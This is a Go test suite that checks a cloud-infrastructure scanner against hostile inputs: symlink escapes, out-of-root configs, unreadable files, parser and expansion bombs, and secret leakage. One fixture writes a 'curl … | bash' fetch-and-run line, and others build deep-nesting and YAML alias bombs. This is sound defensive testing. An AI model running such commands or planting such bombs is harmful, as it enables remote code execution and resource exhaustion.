//go:build unix

package cli

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/sagefence/sagefence/finding"
	"github.com/sagefence/sagefence/report"
)

// The hostile suite: one case per item of the README's "Security model",
// inputs from testdata/hostile (README there) plus what the test makes.
// Every case asserts a clear error or unknown, and time and memory measured
// against generous bounds (they catch a hang or a blow-up, not a slowdown).

const (
	hostileTimeBound = 3 * time.Minute
	hostileHeapBound = 1536 << 20
	dia              = "sagemaker_notebook_instance_direct_internet_access_disabled"
)

// hostileCase copies testdata/hostile/<name> into a fresh directory that is
// in no repository, and returns the copy.
func hostileCase(t *testing.T, name string) string {
	t.Helper()
	src := filepath.Join("..", "..", "testdata", "hostile", name)
	dst := filepath.Join(t.TempDir(), name)
	err := filepath.WalkDir(src, func(p string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		rel, _ := filepath.Rel(src, p)
		target := filepath.Join(dst, rel)
		if d.IsDir() {
			return os.MkdirAll(target, 0o755)
		}
		b, err := os.ReadFile(p)
		if err != nil {
			return err
		}
		return os.WriteFile(target, b, 0o644)
	})
	if err != nil {
		t.Fatal(err)
	}
	return dst
}

func writeFile(t *testing.T, path, body string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(body), 0o644); err != nil {
		t.Fatal(err)
	}
}

func symlink(t *testing.T, target, path string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(target, path); err != nil {
		t.Fatal(err)
	}
}

// hostileRun is one scan with its output, exit code and measured cost.
type hostileRun struct {
	code           int
	stdout, stderr string
	elapsed        time.Duration
	peakHeap       uint64
}

// scanMeasured runs `sagefence scan args...` in-process, sampling the heap,
// and fails the test when the run exceeds the generous bounds.
func scanMeasured(t *testing.T, ctx context.Context, args ...string) hostileRun {
	t.Helper()
	runtime.GC()
	var peak uint64
	var mu sync.Mutex
	stop := make(chan struct{})
	done := make(chan struct{})
	go func() {
		defer close(done)
		var ms runtime.MemStats
		for {
			runtime.ReadMemStats(&ms)
			mu.Lock()
			peak = max(peak, ms.HeapAlloc)
			mu.Unlock()
			select {
			case <-stop:
				return
			case <-time.After(20 * time.Millisecond):
			}
		}
	}()
	var out, errOut bytes.Buffer
	io := &IO{In: strings.NewReader(""), Out: &out, ErrOut: &errOut, Getenv: func(string) string { return "" }}
	start := time.Now()
	finished := make(chan int, 1)
	go func() { finished <- Run(ctx, io, append([]string{"scan"}, args...)) }()
	var code int
	select {
	case code = <-finished:
	case <-time.After(hostileTimeBound):
		t.Fatalf("scan %v did not finish within %v (a hang)", args, hostileTimeBound)
	}
	r := hostileRun{code: code, stdout: out.String(), stderr: errOut.String(), elapsed: time.Since(start)}
	close(stop)
	<-done
	mu.Lock()
	r.peakHeap = peak
	mu.Unlock()
	t.Logf("scan %s: exit %d in %v, peak heap %d MiB", strings.Join(args, " "), r.code, r.elapsed.Round(time.Millisecond), r.peakHeap>>20)
	if r.peakHeap > hostileHeapBound {
		t.Errorf("peak heap %d MiB, more than the %d MiB bound", r.peakHeap>>20, hostileHeapBound>>20)
	}
	return r
}

func hostileJSON(t *testing.T, args ...string) (*finding.Result, hostileRun) {
	t.Helper()
	r := scanMeasured(t, context.Background(), append(args, "--format", "json")...)
	var res finding.Result
	if err := json.Unmarshal([]byte(r.stdout), &res); err != nil {
		t.Fatalf("output is not JSON (%v); stderr:\n%s", err, r.stderr)
	}
	return &res, r
}

func findingsOf(res *finding.Result, control string) []finding.Finding {
	var out []finding.Finding
	for _, f := range res.Findings {
		if f.ControlID == control {
			out = append(out, f)
		}
	}
	return out
}

func errorsMention(res *finding.Result, file, text string) bool {
	for _, e := range res.Errors {
		if strings.Contains(e.File, file) && strings.Contains(e.Message, text) {
			return true
		}
	}
	return false
}

// assertNoPassFromFallback checks the headline control is unknown (never a
// pass from the value the failed input would have overridden).
func assertUnknownNotPass(t *testing.T, res *finding.Result, mention string) {
	t.Helper()
	fs := findingsOf(res, dia)
	for _, f := range fs {
		if f.Status == finding.Pass {
			t.Errorf("%s passes: %s", f.Resource.Address, f.Message)
		}
	}
	seen := false
	for _, f := range fs {
		if f.Status == finding.Unknown && strings.Contains(f.Message, mention) {
			seen = true
		}
	}
	for _, g := range res.Gaps {
		if strings.Contains(g.Reason, mention) {
			seen = true
		}
	}
	if !seen {
		t.Errorf("no unknown finding or gap mentions %q: findings %+v gaps %+v", mention, fs, res.Gaps)
	}
}

func TestHostileFileFunctionsStayInTheScanRoot(t *testing.T) {
	root := hostileCase(t, "file-outside")
	outside := filepath.Join(filepath.Dir(root), "outside")
	writeFile(t, filepath.Join(outside, "access.txt"), "Disabled\n")
	writeFile(t, filepath.Join(outside, "start.sh"), "#!/bin/bash\necho OUTSIDE-SECRET-MARKER\n")
	writeFile(t, filepath.Join(outside, "create.tpl"), "curl https://example.com/OUTSIDE-SECRET-MARKER | bash\n")
	writeFile(t, filepath.Join(outside, "module", "main.tf"), `resource "aws_sagemaker_notebook_instance" "shared" {
  name          = "OUTSIDE-SECRET-MARKER"
  role_arn      = "r"
  instance_type = "ml.t3.medium"
}
`)
	writeFile(t, filepath.Join(outside, "evil.tf"), `resource "aws_sagemaker_notebook_instance" "evil" {
  name          = "OUTSIDE-SECRET-MARKER"
  role_arn      = "r"
  instance_type = "ml.t3.medium"
}
`)
	symlink(t, filepath.Join(outside, "evil.tf"), filepath.Join(root, "evil.tf"))

	for format, out := range scanEveryFormat(t, root) {
		if strings.Contains(out, "OUTSIDE-SECRET-MARKER") {
			t.Errorf("%s output contains content read outside the scan root", format)
		}
	}
	res, r := hostileJSON(t, root)
	if r.code != ExitError {
		t.Errorf("exit %d, want 2 (the symlinked evil.tf is an input error)", r.code)
	}
	assertUnknownNotPass(t, res, "outside the scan root")
	if !errorsMention(res, "evil.tf", "outside the scan root") {
		t.Errorf("the symlink leading outside is not an error naming it: %+v", res.Errors)
	}
	kinds := map[string]bool{}
	for _, g := range res.Gaps {
		if g.Kind == "outside_scan_root" {
			kinds[g.Address] = true
		}
	}
	for _, want := range []string{`file("../outside/access.txt")`, `filebase64("../outside/start.sh")`, "module.shared"} {
		if !kinds[want] {
			t.Errorf("no outside_scan_root gap for %s: %v", want, kinds)
		}
	}
	// --allow-read lets the shared directory in.
	res, _ = hostileJSON(t, root, "--allow-read", outside)
	for _, f := range findingsOf(res, dia) {
		if f.Resource.Address == "aws_sagemaker_notebook_instance.nb" && f.Status != finding.Pass {
			t.Errorf("with --allow-read the file is read: %s %s", f.Status, f.Message)
		}
	}
}

func TestHostileCDKTemplateOutsideTheAssembly(t *testing.T) {
	root := hostileCase(t, "cdk-outside")
	writeFile(t, filepath.Join(filepath.Dir(root), "outside", "Escape.template.json"),
		`{"Resources":{"Escaped":{"Type":"AWS::SageMaker::NotebookInstance","Properties":{"InstanceType":"ml.t3.medium","RoleArn":"r"}}}}`)
	res, r := hostileJSON(t, root)
	if r.code != ExitError {
		t.Errorf("exit %d, want 2", r.code)
	}
	for _, f := range res.Findings {
		if f.Resource.Address == "Escaped" {
			t.Errorf("a template outside the assembly was read: %+v", f)
		}
	}
	for _, name := range []string{"Escape", "Absolute"} {
		if !errorsMention(res, "manifest.json", name) || !errorsMention(res, "manifest.json", "outside the cloud assembly") {
			t.Errorf("no error names stack %s outside the assembly: %+v", name, res.Errors)
		}
	}
}

func TestHostileFailedOverrideInputsGiveUnknown(t *testing.T) {
	t.Run("broken terraform.tfvars", func(t *testing.T) {
		res, r := hostileJSON(t, hostileCase(t, "broken-tfvars"))
		assertUnknownNotPass(t, res, "terraform.tfvars")
		if r.code != ExitError || !errorsMention(res, "terraform.tfvars", "") {
			t.Errorf("exit %d, errors %+v: want 2 and an error naming terraform.tfvars", r.code, res.Errors)
		}
		gap := false
		for _, g := range res.Gaps {
			gap = gap || (g.Kind == "input_unreadable" && strings.HasSuffix(g.Address, "terraform.tfvars"))
		}
		if !gap {
			t.Errorf("no input_unreadable gap for terraform.tfvars: %+v", res.Gaps)
		}
	})
	t.Run("unreadable terraform.tfvars", func(t *testing.T) {
		root := hostileCase(t, "unreadable-tfvars")
		if err := syscall.Mkfifo(filepath.Join(root, "terraform.tfvars"), 0o644); err != nil {
			t.Fatal(err)
		}
		res, _ := hostileJSON(t, root)
		assertUnknownNotPass(t, res, "terraform.tfvars")
		if !errorsMention(res, "terraform.tfvars", "not a regular file") {
			t.Errorf("errors %+v", res.Errors)
		}
	})
	t.Run("broken override file", func(t *testing.T) {
		res, _ := hostileJSON(t, hostileCase(t, "broken-override"))
		assertUnknownNotPass(t, res, "main_override.tf")
	})
	t.Run("broken parameter file", func(t *testing.T) {
		root := hostileCase(t, "broken-parameters")
		res, _ := hostileJSON(t, filepath.Join(root, "template.yaml"), "--parameter-file", filepath.Join(root, "params.json"))
		assertUnknownNotPass(t, res, "params.json")
	})
	t.Run("a var file given on the command line that does not parse", func(t *testing.T) {
		root := hostileCase(t, "broken-tfvars")
		bad := filepath.Join(root, "prod.tfvars")
		writeFile(t, bad, "internet_access = \"Enabled\"\n}}\n")
		if err := os.Remove(filepath.Join(root, "terraform.tfvars")); err != nil {
			t.Fatal(err)
		}
		res, _ := hostileJSON(t, root, "--var-file", bad)
		assertUnknownNotPass(t, res, "prod.tfvars")
	})
}

func TestHostileDeepNestingIsAnErrorNamingTheLine(t *testing.T) {
	root := t.TempDir()
	const n = 60000
	deep := strings.Repeat("[", n) + strings.Repeat("]", n)
	writeFile(t, filepath.Join(root, "hcl", "main.tf"), "locals {\n  x = "+deep+"\n}\n")
	writeFile(t, filepath.Join(root, "json", "main.tf.json"), `{"locals": {"x": `+deep+"}}\n")
	writeFile(t, filepath.Join(root, "vars", "main.tf"), "variable \"x\" {}\n")
	writeFile(t, filepath.Join(root, "vars", "deep.auto.tfvars.json"), `{"x": `+deep+"}\n")
	writeFile(t, filepath.Join(root, "tpl", "main.tf"), "resource \"aws_sagemaker_notebook_instance\" \"t\" {\n  name = \"t\"\n  role_arn = \"r\"\n  instance_type = \"ml.t3.medium\"\n  direct_internet_access = templatefile(\"t.tpl\", {})\n}\n")
	writeFile(t, filepath.Join(root, "tpl", "t.tpl"), strings.Repeat("${(", n))
	writeFile(t, filepath.Join(root, "cfn", "template.yaml"), "AWSTemplateFormatVersion: '2010-09-09'\nResources:\n  X:\n    Type: AWS::SageMaker::NotebookInstance\n    Properties:\n      Tags: "+deep+"\n")
	writeFile(t, filepath.Join(root, "cfn", "template.json"), `{"Resources": {"X": {"Type": "AWS::SageMaker::NotebookInstance", "Properties": {"Tags": `+deep+"}}}}\n")
	res, r := hostileJSON(t, root)
	if r.code == ExitOK {
		t.Errorf("exit 0 with unparsable input")
	}
	for _, want := range []struct{ file, text string }{
		{"hcl/main.tf", "nested more than"},
		{"json/main.tf.json", "nested more than"},
		{"deep.auto.tfvars.json", "nested more than"},
		{"tpl/main.tf", "nested more than"},
		{"template.yaml", "depth"},
		{"template.json", "depth"},
	} {
		found := false
		for _, e := range res.Errors {
			if strings.Contains(e.File, want.file) && strings.Contains(e.Message, want.text) {
				found = true
				if strings.HasSuffix(want.file, ".tf") && e.Line == 0 && want.file != "tpl/main.tf" {
					t.Errorf("%s: no line in %+v", want.file, e)
				}
			}
		}
		if !found {
			t.Errorf("no error for %s mentioning %q: %+v", want.file, want.text, res.Errors)
		}
	}
}

func TestHostileSpecialFilesAreErrorsNotHangs(t *testing.T) {
	root := t.TempDir()
	if err := os.MkdirAll(filepath.Join(root, "fifo"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := syscall.Mkfifo(filepath.Join(root, "fifo", "main.tf"), 0o644); err != nil {
		t.Fatal(err)
	}
	for _, name := range []string{"main.tf", "template.yaml", "plan.json", "x.auto.tfvars"} {
		symlink(t, "/dev/zero", filepath.Join(root, "zero", name))
	}
	writeFile(t, filepath.Join(root, "zero", "ok.tf"), "locals {}\n")
	symlink(t, filepath.Join(root, "nowhere.tf"), filepath.Join(root, "dangling", "main.tf"))
	symlink(t, filepath.Join(root, "loop", "main.tf"), filepath.Join(root, "loop", "main.tf"))
	res, r := hostileJSON(t, root)
	if r.code != ExitError {
		t.Errorf("exit %d, want 2", r.code)
	}
	for _, want := range []struct{ file, text string }{
		{"fifo/main.tf", "named pipe"},
		{"zero/main.tf", "device"},
		{"zero/template.yaml", "device"},
		{"zero/plan.json", "device"},
		{"zero/x.auto.tfvars", ""},
		{"dangling/main.tf", "dangling"},
		{"loop/main.tf", "cannot be resolved"},
	} {
		if !errorsMention(res, want.file, want.text) {
			t.Errorf("no error for %s mentioning %q: %+v", want.file, want.text, res.Errors)
		}
	}
}

func TestHostileEvaluationBombsEndInUnknown(t *testing.T) {
	res, _ := hostileJSON(t, hostileCase(t, "eval-bombs"))
	fs := findingsOf(res, dia)
	if len(fs) != 7 {
		t.Fatalf("%d findings, want the 7 notebooks: %+v", len(fs), fs)
	}
	for _, f := range fs {
		if f.Status != finding.Unknown || !strings.Contains(f.Message, "budget") {
			t.Errorf("%s: %s %q, want unknown naming the budget", f.Resource.Address, f.Status, f.Message)
		}
	}
	if !errorsMention(res, "eval-bombs", "instances") {
		t.Errorf("module fan-out is not reported: %+v", res.Errors)
	}
	if !errorsMention(res, "main.tf", `dynamic "egress" has 40000 blocks`) {
		t.Errorf("the dynamic block bomb is not reported: %+v", res.Errors)
	}
}

func TestHostileManySuppressedResourcesInOneFile(t *testing.T) {
	root := t.TempDir()
	var b strings.Builder
	const n = 20000
	for i := 0; i < n; i++ {
		fmt.Fprintf(&b, "# checkov:skip=CKV_AWS_122:isolated account\nresource \"aws_sagemaker_notebook_instance\" \"n%d\" {\n  name          = \"n%d\"\n  role_arn      = \"r\"\n  instance_type = \"ml.t3.medium\"\n}\n", i, i)
	}
	writeFile(t, filepath.Join(root, "main.tf"), b.String())
	res, _ := hostileJSON(t, root, "--control", dia)
	if res.Summary.Suppressed != n {
		t.Errorf("%d suppressed, want %d", res.Summary.Suppressed, n)
	}
}

func TestHostileSecretsAreRedactedEverywhere(t *testing.T) {
	root := hostileCase(t, "secrets")
	store := filepath.Join(t.TempDir(), "evidence.db")
	markers := []string{"SECRET-MARKER", "SECRETMARKER"}
	outs := scanEveryFormat(t, root, "--record", "--store", store)
	for format, out := range outs {
		for _, m := range markers {
			if strings.Contains(out, m) {
				i := strings.Index(out, m)
				t.Errorf("%s output leaks a secret: ...%s...", format, out[max(0, i-80):min(len(out), i+40)])
			}
		}
	}
	for format, out := range outs {
		if strings.ContainsAny(out, "\x1b\x07\u202e") {
			t.Errorf("%s output carries terminal control characters from the scanned files", format)
		}
	}
	if !strings.Contains(outs["json"], "[redacted]") {
		t.Errorf("the JSON output has no redaction marker")
	}
	// The evidence store holds the same redacted results.
	matches, _ := filepath.Glob(store + "*")
	if len(matches) == 0 {
		t.Fatalf("no evidence store written at %s", store)
	}
	for _, p := range matches {
		raw, err := os.ReadFile(p)
		if err != nil {
			t.Fatal(err)
		}
		for _, m := range markers {
			if bytes.Contains(raw, []byte(m)) {
				t.Errorf("the evidence store %s holds a secret", filepath.Base(p))
			}
		}
	}
}

func TestHostileConfigAboveTheScanRootIsNotApplied(t *testing.T) {
	root := hostileCase(t, "config-above")
	infra := filepath.Join(root, "a", "b", "infra")
	res, _ := hostileJSON(t, infra)
	if len(findingsOf(res, dia)) == 0 {
		t.Errorf("the .sagefence.yaml two directories above switched the controls off")
	}
	if res.Scope == nil || res.Scope.Config != nil {
		t.Errorf("scope.config = %v, want null", res.Scope)
	}
	own := filepath.Join(infra, ".sagefence.yaml")
	writeFile(t, own, "format: json\n")
	res, _ = hostileJSON(t, infra)
	if res.Scope == nil || res.Scope.Config == nil || *res.Scope.Config != own {
		t.Errorf("scope.config = %+v, want %s", res.Scope, own)
	}
	// A discovered configuration may not steer reads or writes outside the root.
	for _, body := range []string{"var_files: [../../../../shadow.tfvars]\n", "record: true\nstore: ../../../../evidence.db\n"} {
		writeFile(t, own, body)
		r := scanMeasured(t, context.Background(), infra, "--format", "json")
		if r.code != ExitError || !strings.Contains(r.stderr, "outside the scan root") {
			t.Errorf("%q: exit %d, stderr %q: want 2 naming the scan root", body, r.code, r.stderr)
		}
	}
	if _, err := os.Stat(filepath.Join(filepath.Dir(root), "evidence.db")); err == nil {
		t.Errorf("an evidence store was written outside the scan root")
	}
}

func TestHostileInterruptedScanStops(t *testing.T) {
	root := hostileCase(t, "eval-bombs")
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	r := scanMeasured(t, ctx, root, "--format", "json")
	if r.code != ExitError || !strings.Contains(r.stderr, "interrupted") {
		t.Errorf("exit %d, stderr %q: want 2 and 'interrupted'", r.code, r.stderr)
	}
}

// scanEveryFormat scans with each output format and returns the outputs
// (stdout and stderr together).
func scanEveryFormat(t *testing.T, args ...string) map[string]string {
	t.Helper()
	out := map[string]string{}
	for _, f := range report.Names() {
		r := scanMeasured(t, context.Background(), append(append([]string(nil), args...), "--format", f)...)
		out[f] = r.stdout + r.stderr
	}
	return out
}

func TestHostileTemplateAliasBombEndsInUnknown(t *testing.T) {
	root := t.TempDir()
	var b strings.Builder
	b.WriteString("AWSTemplateFormatVersion: '2010-09-09'\nMappings:\n  M:\n    A:\n      L0: &l0 " + strings.Repeat("x", 1<<20) + "\n")
	for i := 1; i < 25; i++ {
		fmt.Fprintf(&b, "      L%d: &l%d {\"Fn::Join\": [\"\", [*l%d, *l%d]]}\n", i, i, i-1, i-1)
	}
	b.WriteString("Resources:\n  Notebook:\n    Type: AWS::SageMaker::NotebookInstance\n    Properties:\n      InstanceType: ml.t3.medium\n      RoleArn: r\n      DirectInternetAccess: *l24\n")
	writeFile(t, filepath.Join(root, "template.yaml"), b.String())
	res, _ := hostileJSON(t, root)
	fs := findingsOf(res, dia)
	if len(fs) != 1 || fs[0].Status != finding.Unknown || !strings.Contains(fs[0].Message, "budget") {
		t.Errorf("findings %+v, want one unknown naming the budget", fs)
	}
}
